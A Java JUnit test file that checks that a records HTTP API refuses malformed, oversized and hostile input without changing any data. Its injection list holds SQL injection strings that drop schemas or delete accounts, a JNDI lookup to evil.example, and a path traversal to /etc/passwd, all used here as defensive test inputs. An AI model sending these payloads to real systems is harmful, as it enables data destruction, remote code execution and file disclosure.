package io.modelwright.bootstrap.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What nobody should send to record routes is refused as it should be, and changes nothing. */
final class HostileRecordsHttpTest {

    private static TestApp app;
    private static Api owner;
    private static String record;
    private static String before;

    @BeforeAll
    static void publish() {
        app = TestApp.published();
        owner = app.owner();
        record = app.create("task", "{\"title\":\"The only one\"}").text("id");
        before = app.all("task");
    }

    @AfterAll
    static void nothingShouldHaveChanged() {
        assertThat(app.all("task")).isEqualTo(before);
        assertThat(owner.get(app.records("task/" + record + "/history")).send().items("version"))
                .containsExactly("1");
        assertThat(app.all("project")).contains("\"items\":[]");
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    static Stream<Arguments> bodies() {
        return Stream.of(
                Arguments.of("empty", "", 400, "malformed-json"),
                Arguments.of("cut off", "{\"title\":\"x\"", 400, "malformed-json"),
                Arguments.of("two values", "{}{}", 400, "malformed-json"),
                Arguments.of("a comment", "/* x */{}", 400, "malformed-json"),
                Arguments.of("single quotes", "{'title':'x'}", 400, "malformed-json"),
                Arguments.of("not a number", "{\"title\":NaN}", 400, "malformed-json"),
                Arguments.of("a key twice", "{\"title\":\"x\",\"title\":\"y\"}", 400, "duplicate-key"),
                Arguments.of("no UTF-8", "{\"title\":\"\u00ff\"}", 400, "malformed-text"),
                Arguments.of("too deep", "{\"extra\":" + "[".repeat(65) + "]".repeat(65) + "}", 400, "too-deep"),
                Arguments.of("depth without end", "[".repeat(500_000), 400, "too-deep"),
                Arguments.of("NUL", "{\"title\":\"a\\u0000b\"}", 422, "forbidden-character"),
                Arguments.of("NUL in a name", "{\"a\\u0000b\":1}", 422, "forbidden-character"),
                Arguments.of("NUL deep within", "{\"extra\":{\"x\":[\"\\u0000\"]}}", 422, "forbidden-character"),
                Arguments.of("half a pair", "{\"title\":\"\\ud800\"}", 422, "forbidden-character"),
                Arguments.of("the other half", "{\"extra\":[\"\\udc00x\"]}", 422, "forbidden-character"),
                Arguments.of("a huge exponent", "{\"estimate\":1e999999999}", 422, "number-out-of-range"),
                Arguments.of("many digits", "{\"hits\":" + "9".repeat(10_000) + "}", 422, "number-out-of-range"),
                Arguments.of("a long text", "{\"title\":\"" + "x".repeat(1_000_001) + "\"}", 422, "text-too-long"),
                Arguments.of("a long name", "{\"" + "x".repeat(1_001) + "\":1}", 422, "name-too-long"),
                Arguments.of("nothing", "null", 422, "invalid-record"),
                Arguments.of("a text", "\"x\"", 422, "invalid-record"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bodies")
    void bodiesShouldBeRefusedByEveryWrite(String what, String body, int status, String code) {
        String path = app.records("task/" + record);
        owner.post(app.records("task"))
                .body("application/json", latin(body))
                .send()
                .expectProblem(status, code);
        owner.put(path).body("application/json", latin(body)).send().expectProblem(status, code);
        owner.patch(path)
                .body("application/merge-patch+json", latin(body))
                .send()
                .expectProblem(status, code);
    }

    static Stream<Arguments> members() {
        return Stream.of(
                Arguments.of("title", "7", "wrong-type"),
                Arguments.of("title", "[]", "wrong-type"),
                Arguments.of("title", "{}", "wrong-type"),
                Arguments.of("title", "null", "required"),
                Arguments.of("title", "\"" + "x".repeat(201) + "\"", "too-long"),
                Arguments.of("status", "\"lost\"", "unknown-choice"),
                Arguments.of("status", "1", "wrong-type"),
                Arguments.of("done", "\"true\"", "wrong-type"),
                Arguments.of("done", "1", "wrong-type"),
                Arguments.of("priority", "0", "out-of-range"),
                Arguments.of("priority", "6", "out-of-range"),
                Arguments.of("priority", "1.5", "not-exact"),
                Arguments.of("priority", "2147483648", "out-of-range"),
                Arguments.of("priority", "1e400", "number-out-of-range"),
                Arguments.of("priority", "\"1\"", "wrong-type"),
                Arguments.of("estimate", "123456789.01", "out-of-range"),
                Arguments.of("estimate", "\"1.005\"", "not-exact"),
                Arguments.of("estimate", "\"1e3\"", "format"),
                Arguments.of("hits", "9223372036854775808", "out-of-range"),
                Arguments.of("hits", "\"-9223372036854775809\"", "out-of-range"),
                Arguments.of("hits", "\"0x10\"", "format"),
                Arguments.of("ratio", "1e309", "out-of-range"),
                Arguments.of("ratio", "\"NaN\"", "wrong-type"),
                Arguments.of("due", "\"2027-02-29\"", "format"),
                Arguments.of("due", "\"10000-01-01\"", "format"),
                Arguments.of("due", "\"yesterday\"", "format"),
                Arguments.of("due", "20270101", "wrong-type"),
                Arguments.of("at", "\"24:00:00\"", "format"),
                Arguments.of("seen", "\"2027-01-01T00:00:00\"", "format"),
                Arguments.of("seen", "\"2027-01-01T00:00:00.0000001Z\"", "format"),
                Arguments.of("took", "\"P1Y\"", "format"),
                Arguments.of("number", "7", "read-only"),
                Arguments.of("overdue", "true", "read-only"),
                Arguments.of("labels", "\"red\"", "wrong-type"),
                Arguments.of("labels", "[\"red\",\"red\"]", "duplicate"),
                Arguments.of("labels", "[\"pink\"]", "unknown-choice"),
                Arguments.of("place", "{\"lat\":91,\"lon\":0}", "out-of-range"),
                Arguments.of("place", "{\"lat\":1}", "required"),
                Arguments.of("place", "[1,2]", "wrong-type"),
                Arguments.of("password", "7", "wrong-type"),
                Arguments.of("project", "\"nonsense\"", "format"),
                Arguments.of("project", "7", "wrong-type"),
                Arguments.of("project", "{\"id\":\"x\"}", "wrong-type"),
                Arguments.of("project", "\"00000000-0000-7000-8000-000000000000\"", "unknown-record"),
                Arguments.of("tags", "\"x\"", "wrong-type"),
                Arguments.of("tags", "[7]", "wrong-type"),
                Arguments.of("tags", "[\"00000000-0000-7000-8000-000000000000\"]", "unknown-record"),
                Arguments.of("id", "\"00000000-0000-7000-8000-000000000000\"", "read-only"),
                Arguments.of("version", "7", "read-only"),
                Arguments.of("createdBy", "\"x\"", "read-only"),
                Arguments.of("__proto__", "{}", "unknown-member"),
                Arguments.of("title; DROP TABLE task", "1", "unknown-member"),
                Arguments.of("../title", "1", "unknown-member"),
                Arguments.of("$where", "\"1\"", "unknown-member"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("members")
    void valuesShouldBeRefusedWhereTheyStand(String member, String value, String code) {
        String title = member.equals("title") ? "" : "\"title\":\"x\",";
        String body = "{" + title + "\"" + member + "\":" + value + "}";
        String pointer = "/" + member.replace("~", "~0").replace("/", "~1");
        Answer created = owner.post(app.records("task")).json(body).send().expect(422);
        created.expectProblem();
        Answer many = owner.post(app.records("task"))
                .json("[{\"title\":\"y\"}," + body + "]")
                .send()
                .expect(422);
        Answer patched =
                owner.patch(app.records("task/" + record)).json(body).send().expect(422);
        assertThat(created.body()).as(created.body()).contains("\"pointer\":\"" + pointer, "\"code\":\"" + code + "\"");
        if (!code.equals("number-out-of-range")) {
            assertThat(many.body()).contains("\"pointer\":\"/1" + pointer);
        }
        assertThat(patched.body()).contains("\"pointer\":\"" + pointer);
    }

    static Stream<String> injections() {
        return Stream.of(
                "'; DROP SCHEMA modelwright CASCADE; --",
                "title' OR '1'='1",
                "title\"; SELECT pg_sleep(9); --",
                "1; DELETE FROM modelwright.accounts",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}}",
                "../../../etc/passwd",
                "title/**/UNION/**/SELECT/**/password",
                "e.\"password\"",
                "\u0000",
                "title\u0000",
                "%",
                "\\",
                "$1",
                "?",
                "(select 1)",
                "title,",
                ",",
                "-",
                "--title",
                "title.title",
                "project.".repeat(30) + "name",
                "x".repeat(5_000),
                "😀");
    }

    @ParameterizedTest
    @MethodSource("injections")
    void queriesShouldBeRefusedOrMeanWhatTheySay(String text) {
        String value = Api.encoded(text);
        for (String parameter :
                List.of("filter", "sort", "fields", "expand", "aggregate", "groupBy", "cursor", "limit")) {
            Answer answer =
                    owner.get(app.records("task?" + parameter + "=" + value)).send();
            assertThat(answer.status()).as(parameter + ": " + answer.body()).isIn(400, 422);
            answer.expectProblem();
            assertThat(answer.body()).contains("/" + parameter);
        }
        assertThat(owner.get(app.records("task?q=" + value)).send().status()).isIn(200, 400, 422);
        owner.get(app.records("task?" + value.replace("%00", "") + "=1")).send().expectProblem();
        assertThat(owner.get(app.records("task?filter=" + Api.encoded("title == " + literal(text))))
                        .send()
                        .status())
                .isIn(200, 400, 422);
    }

    /** The text as CEL quotes it. */
    private static String literal(String text) {
        return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    static Stream<Arguments> names() {
        return Stream.of(
                Arguments.of("..", 400),
                Arguments.of("%2e%2e", 400),
                Arguments.of("..%2f..%2fapps", 400),
                Arguments.of("task%2f..", 400),
                Arguments.of("task%5c", 400),
                Arguments.of("task;x=1", 400),
                Arguments.of("%00", 400),
                Arguments.of("task%00", 400),
                Arguments.of("", 404),
                Arguments.of("Task", 404),
                Arguments.of("TASK", 404),
                Arguments.of("tasks", 404),
                Arguments.of("task%20", 404),
                Arguments.of("task%22%3B--", 404),
                Arguments.of("task'", 404),
                Arguments.of("pg_class", 404),
                Arguments.of("_retired_1", 404),
                Arguments.of("task%0a", 404),
                Arguments.of("%F0%9F%98%80", 404),
                Arguments.of("x".repeat(3_000), 404));
    }

    @ParameterizedTest
    @MethodSource("names")
    void pathsShouldBeNamesAndNothingElse(String name, int status) {
        assertRefused(app.path("/records/" + name), status);
        assertRefused("/apps/" + name + "/records/task", status);
        assertRefused(app.path("/records/task/" + name), status);
        assertRefused(app.path("/records/task/" + name + "/history"), status);
        assertRefused(app.path("/records/" + name + "/export"), status);
    }

    private static void assertRefused(String path, int status) {
        Answer answer = owner.get(path).send();
        // the server itself refuses some paths before anybody else sees them
        assertThat(answer.status()).as(path + " " + answer.body()).isIn(status, 400, 404);
        assertThat(answer.header("Content-Type")).contains("application/problem+json");
    }

    @Test
    void otherMethodsShouldBeRefused() {
        owner.delete(app.records("task")).send().expectProblem(405, "method-not-allowed");
        owner.patch(app.records("task")).json("{}").send().expectProblem(405, "method-not-allowed");
        assertThat(owner.post(app.records("task/" + record))
                        .json("{}")
                        .send()
                        .expectProblem(405, "method-not-allowed")
                        .header("Allow"))
                .contains("GET, HEAD, PATCH, PUT, DELETE");
        owner.post(app.records("task/" + record + "/history"))
                .json("{}")
                .send()
                .expectProblem(405, "method-not-allowed");
        owner.call("TRACE", app.records("task")).send().expect(405);
        owner.call("PURGE", app.records("task")).send().expect(405);
    }

    @Test
    void otherTypesShouldBeRefused() {
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "application/json; charset=iso-8859-1",
                "x")) {
            owner.post(app.records("task"))
                    .body(type, "{\"title\":\"x\"}")
                    .send()
                    .expect(415)
                    .expectProblem();
        }
        owner.post(app.records("task")).send().expect(415).expectProblem();
        owner.post(app.records("task"))
                .body("application/merge-patch+json", "{\"title\":\"x\"}")
                .send()
                .expectProblem(415, "unsupported-media-type");
    }

    @Test
    void connectionShouldStayWhenABodyIsNotRead() {
        // a client does not send a POST again on its own: it would fail where the server closes the connection behind
        // it
        String body = "{\"title\":\"" + "x".repeat(100_000) + "\"}";
        for (int request = 0; request < 50; request++) {
            owner.post(app.records("task"))
                    .body("text/plain", body)
                    .send()
                    .expectProblem(415, "unsupported-media-type");
            owner.post(app.records("nothing/import"))
                    .body("text/csv", body)
                    .send()
                    .expectProblem(404, "not-found");
            Api.nobody().post(app.records("task")).json(body).send().expectProblem(401, "unauthenticated");
            owner.put(app.path("/draft")).body("text/plain", body).send().expect(415);
        }
    }

    @Test
    void largeBodiesShouldBeRefused() {
        byte[] large = new byte[8 * 1_024 * 1_024 + 1];
        owner.post(app.records("task")).body("application/json", large).send().expectProblem(413, "body-too-large");
        owner.patch(app.records("task/" + record))
                .body("application/json", large)
                .send()
                .expectProblem(413, "body-too-large");
    }

    @Test
    void tooManyRecordsShouldBeRefused() {
        String records = "{\"title\":\"x\"},".repeat(1_001);
        owner.post(app.records("task"))
                .json("[" + records.substring(0, records.length() - 1) + "]")
                .send()
                .expectProblem(422, "invalid-record")
                .expectFinding("", "out-of-range");
        owner.post(app.records("task")).json("[]").send().expectProblem(422, "invalid-record");
    }

    @Test
    void preconditionsShouldBeTagsOfOurs() {
        for (String tag :
                List.of("1", "\"x\"", "W/\"1\"", "\"1\", \"2\"", "\"99999999999999999999\"", "'1'", "\"-1\"")) {
            owner.patch(app.records("task/" + record))
                    .ifMatch(tag)
                    .json("{\"priority\":1}")
                    .send()
                    .expect(412)
                    .expectProblem();
            owner.delete(app.records("task/" + record))
                    .ifMatch(tag)
                    .send()
                    .expect(412)
                    .expectProblem();
        }
    }

    @Test
    void longTextShouldBeKeptAsItIs() {
        TestApp other = TestApp.of(owner);
        String text = "😀".repeat(499_999) + "xy";
        Answer created = other.create("task", "{\"title\":\"Long\",\"description\":\"" + text + "\"}");
        assertThat(created.text("description")).isEqualTo(text);
        assertThat(owner.get(other.records("task/" + created.text("id"))).send().text("description"))
                .isEqualTo(text);
    }
}
